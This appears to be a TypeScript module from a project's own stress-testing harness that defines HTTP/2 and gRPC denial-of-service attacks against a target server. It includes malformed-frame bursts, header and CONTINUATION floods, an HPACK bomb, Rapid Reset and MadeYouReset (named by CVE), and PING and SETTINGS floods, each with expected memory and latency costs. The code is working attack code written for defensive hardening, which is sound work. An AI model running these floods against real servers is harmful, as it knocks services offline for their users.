// Floods: few bytes that cause much work. Each connection is reopened when the server closes it.

import { setImmediate as turnOfLoop } from "node:timers/promises";
import { frameOf } from "../../../src/rpc/grpc/frames.ts";
import type { Attack, Run } from "../attack.ts";
import { HEALTH, openSession, openStream, STATS, STREAM } from "../calls.ts";
import {
  callHeaders,
  FLAG,
  FRAME,
  headerBlock,
  http2Frame,
  indexedField,
  openCall,
  Peer,
  PREFACE,
  SETTING,
  settings,
  uint32,
} from "../wire.ts";

const MIB = 1024 * 1024;
const EMPTY = frameOf(new Uint8Array(0));

/**
 * Opens connections that each write the results of `next` until the server closes them, and then reopens them.
 */
function flood(
  connections: number,
  next: (turn: number) => Uint8Array,
  reads = true,
): Attack["run"] {
  return async (run) => {
    await Promise.all(Array.from({ length: connections }, () => floodConnection(run, next, reads)));
  };
}

async function floodConnection(run: Run, next: (turn: number) => Uint8Array, reads: boolean) {
  const { target, over, count } = run;
  while (!over.aborted) {
    const peer = await Peer.http2(target.grpc);
    // The server may stop reading, so only this ends the wait.
    const stop = () => peer.destroy();
    over.addEventListener("abort", stop);
    if (!reads) peer.socket.pause();
    count("connections");
    for (let turn = 0; !over.aborted; turn++) {
      const bytes = next(turn);
      if (!(await peer.write(bytes))) break;
      count("KiB", Math.round(bytes.length / 1024));
      await turnOfLoop();
    }
    over.removeEventListener("abort", stop);
    peer.destroy();
  }
}

function repeat(count: number, frame: Buffer): Buffer {
  return Buffer.alloc(count * frame.length, frame);
}

/** Stream ids of a turn, which are unique on a connection. */
function idsOf(turn: number, count: number): number[] {
  return Array.from({ length: count }, (_, at) => 2 * (turn * count + at) + 1);
}

const PINGS = repeat(1_000, http2Frame(FRAME.PING, 0, 0, Buffer.alloc(8)));
const SETTINGS = repeat(500, settings({ [SETTING.INITIAL_WINDOW_SIZE]: 65_535 }));
const manyHeaders = () => Array.from({ length: 100_000 }, (_, at) => [`h${at}`, "x"] as const);

/** Splits a header block into HEADERS and CONTINUATION frames. */
function inPieces(stream: number, block: Buffer, last = FLAG.END_HEADERS): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += 16_384) {
    const type = at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION;
    const flags = at + 16_384 >= block.length ? last : 0;
    frames.push(http2Frame(type, flags, stream, block.subarray(at, at + 16_384)));
  }
  return Buffer.concat(frames);
}

/** One field of 4 KiB in the header table, repeated a thousand times by one byte each. */
const HPACK_BOMB = Buffer.concat([
  headerBlock(callHeaders(STATS)),
  indexedField(["bomb", "x".repeat(3_900)]),
  Buffer.alloc(16_000, 0x80 | 62),
]);

const MALFORMED: readonly Buffer[] = [
  PREFACE.subarray(0, 10),
  Buffer.from("GET / HTTP/1.1\r\nHost: x\r\n\r\n"),
  Buffer.alloc(100_000, 0xff),
  ...[
    http2Frame(FRAME.DATA, 0, 0, Buffer.alloc(10)),
    http2Frame(FRAME.DATA, 0, 1, Buffer.alloc(10)),
    http2Frame(FRAME.HEADERS, FLAG.END_HEADERS, 0, headerBlock(callHeaders(STATS))),
    http2Frame(FRAME.HEADERS, FLAG.END_HEADERS, 2, headerBlock(callHeaders(STATS))),
    http2Frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, Buffer.alloc(100, 0xff)),
    http2Frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, headerBlock([["UPPER", "x"]])),
    http2Frame(FRAME.HEADERS, FLAG.END_HEADERS, 1, headerBlock([["no", "pseudo"]])),
    http2Frame(
      FRAME.HEADERS,
      FLAG.END_HEADERS,
      1,
      headerBlock([...callHeaders(STATS), ["x", Buffer.from([0xff, 0xfe, 0, 10, 13])]]),
    ),
    http2Frame(FRAME.HEADERS, FLAG.PADDED | FLAG.END_HEADERS, 1, Buffer.from([255, 1])),
    http2Frame(FRAME.CONTINUATION, FLAG.END_HEADERS, 1, headerBlock(callHeaders(STATS))),
    http2Frame(FRAME.PUSH_PROMISE, FLAG.END_HEADERS, 1, uint32(2)),
    http2Frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(5)),
    http2Frame(FRAME.SETTINGS, 0, 1, Buffer.alloc(6)),
    http2Frame(FRAME.PING, 0, 0, Buffer.alloc(7)),
    http2Frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(0)),
    http2Frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(0x7f_ff_ff_ff)),
    http2Frame(FRAME.RST_STREAM, 0, 99, uint32(0)),
    http2Frame(FRAME.PRIORITY, 0, 1, Buffer.concat([uint32(1), Buffer.from([1])])),
    http2Frame(0xee, 0xff, 0, Buffer.alloc(1_000)),
    // A frame with a declared length of 16 MiB.
    Buffer.concat([Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]), Buffer.alloc(1_000)]),
    settings({ [SETTING.INITIAL_WINDOW_SIZE]: 0xff_ff_ff_ff }),
  ].map((frame) => Buffer.concat([PREFACE, settings(), frame])),
];

export const FLOOD_ATTACKS: readonly Attack[] = [
  {
    name: "malformed-http2",
    what: "half a preface, and frames of wrong kinds, streams, lengths, paddings and headers",
    memoryMiB: 257 * 0.016,
    why: "257 connections, closed or silent, 16 KiB each",
    atLeast: { connections: MALFORMED.length },
    async run({ target, over, count }) {
      const peers: Peer[] = [];
      for (let turn = 0; !over.aborted; turn++) {
        const peer = new Peer(target.grpc);
        await peer.write(MALFORMED[turn % MALFORMED.length] as Buffer);
        peers.push(peer);
        count("connections");
        if (peers.length > 256) peers.shift()?.destroy();
      }
      for (const peer of peers) peer.destroy();
    },
  },
  {
    name: "headers-100k",
    what: "calls with 100,000 headers, and with one of 10 MiB, in CONTINUATIONs",
    memoryMiB: 4 * 0.016,
    why: "16 KiB of headers a call",
    atLeast: { connections: 8 },
    run(run) {
      const begin = headerBlock(callHeaders(STATS));
      const many = inPieces(1, Buffer.concat([begin, headerBlock(manyHeaders())]));
      const huge = inPieces(
        1,
        Buffer.concat([begin, headerBlock([["h", Buffer.alloc(10 * MIB, "x")]])]),
      );
      let next = 0;
      return flood(4, () => (next++ % 2 === 0 ? many : huge))(run);
    },
  },
  {
    name: "continuation-flood",
    what: "headers that never end (CVE-2024-27983 and like)",
    memoryMiB: 4 * 0.016,
    why: "16 KiB of headers a call",
    atLeast: { connections: 8 },
    run: (() => {
      const first = http2Frame(FRAME.HEADERS, 0, 1, headerBlock(callHeaders(STATS)));
      const more = http2Frame(FRAME.CONTINUATION, 0, 1, headerBlock([["h", "x".repeat(1_000)]]));
      const empty = http2Frame(FRAME.CONTINUATION, 0, 1);
      const rest = Buffer.concat([repeat(100, more), repeat(1_000, empty)]);
      return flood(4, (turn) => (turn === 0 ? first : rest));
    })(),
  },
  {
    name: "hpack-bomb",
    what: "62 MiB of headers in 20 KiB, by the table of headers",
    memoryMiB: 4 * 4 * 0.016,
    why: "16 KiB of headers a call, 4 open calls on each connection",
    atLeast: { KiB: 1_000 },
    costly: {
      p99Ms: 750,
      why: "Node decodes the 16,000 fields of a block of 16 KB, 16 ms, before it refuses them, and reports nothing",
    },
    run: flood(4, (turn) =>
      Buffer.concat(idsOf(turn, 4).map((id) => inPieces(id, HPACK_BOMB, FLAG.END_HEADERS))),
    ),
  },
  {
    name: "cancellations",
    what: "10,000 or more calls and streams, 256 at a time, cancelled at once",
    memoryMiB: 250 * 0.032,
    why: "250 calls of 32 KiB at a time",
    atLeast: { calls: 10_000 },
    costly: {
      p99Ms: 500,
      why: "calls start again and again, as many at once as a connection may have",
    },
    async run({ target, over, count }) {
      let done = 0;
      while (!over.aborted || done < 10_000) {
        const session = openSession(target.grpc);
        for (let burst = 0; burst < 4 && !session.destroyed; burst++) {
          const streams = Array.from({ length: 250 }, (_, at) => {
            const stream = openStream(session, at % 2 === 0 ? STATS : STREAM);
            stream.end(at % 2 === 0 ? EMPTY : streamRequest(target.queue));
            stream.resume();
            return stream;
          });
          await turnOfLoop();
          const closed = streams.map(
            (stream) => new Promise<void>((resolve) => stream.once("close", () => resolve())),
          );
          for (const stream of streams) stream.close(8);
          await Promise.all(closed);
          count("calls", streams.length);
          done += streams.length;
        }
        session.destroy();
      }
    },
  },
  {
    name: "rapid-reset",
    what: "calls that are reset in the same write, as fast as possible (CVE-2023-44487)",
    memoryMiB: 4,
    why: "4 connections, each with the calls of one write: 250 of 4 KiB",
    atLeast: { KiB: 500 },
    run: flood(4, (turn) =>
      Buffer.concat(
        idsOf(turn, 250).flatMap((id) => [
          openCall(id, STATS),
          http2Frame(FRAME.DATA, FLAG.END_STREAM, id, EMPTY),
          http2Frame(FRAME.RST_STREAM, 0, id, uint32(8)),
        ]),
      ),
    ),
  },
  {
    name: "made-you-reset",
    what: "calls that make the server reset them, by a wrong WINDOW_UPDATE (CVE-2025-8671)",
    memoryMiB: 4,
    why: "4 connections, each with the calls of one write: 250 of 4 KiB",
    atLeast: { KiB: 100 },
    run: flood(4, (turn) =>
      Buffer.concat(
        idsOf(turn, 250).flatMap((id) => [
          openCall(id, HEALTH),
          http2Frame(FRAME.WINDOW_UPDATE, 0, id, uint32(0)),
        ]),
      ),
    ),
  },
  {
    name: "ping-flood",
    what: "PINGs as fast as possible",
    memoryMiB: 2 * 0.064,
    why: "a thousand answers a connection",
    atLeast: { KiB: 10_000 },
    run: flood(2, () => PINGS),
  },
  {
    name: "ping-flood-unread",
    what: "PINGs as fast as possible, with unread answers",
    memoryMiB: 8 * 0.064,
    why: "a thousand answers a connection",
    atLeast: { KiB: 10_000 },
    run: flood(8, () => PINGS, false),
  },
  {
    name: "settings-flood",
    what: "SETTINGS as fast as possible",
    memoryMiB: 2 * 0.064,
    why: "a thousand answers a connection",
    atLeast: { KiB: 5_000 },
    run: flood(2, () => SETTINGS),
  },
  {
    name: "empty-frames",
    what: "empty DATA frames, on a call that never ends",
    memoryMiB: 0,
    why: "empty frames are not stored",
    atLeast: { KiB: 10_000 },
    run: flood(2, (turn) =>
      turn === 0 ? openCall(1, STATS) : repeat(2_000, http2Frame(FRAME.DATA, 0, 1)),
    ),
  },
  {
    name: "window-updates",
    what: "WINDOW_UPDATE and PRIORITY as fast as possible",
    memoryMiB: 0,
    why: "they are not stored",
    atLeast: { KiB: 10_000 },
    run: flood(2, (turn) =>
      turn === 0
        ? openCall(1, STATS)
        : Buffer.concat([
            repeat(10, http2Frame(FRAME.WINDOW_UPDATE, 0, 0, uint32(1))),
            repeat(
              500,
              http2Frame(FRAME.PRIORITY, 0, 3, Buffer.concat([uint32(1), Buffer.from([1])])),
            ),
          ]),
    ),
  },
];

function streamRequest(queue: string): Buffer {
  return frameOf(Buffer.concat([Buffer.from([0x0a, queue.length]), Buffer.from(queue)]));
}
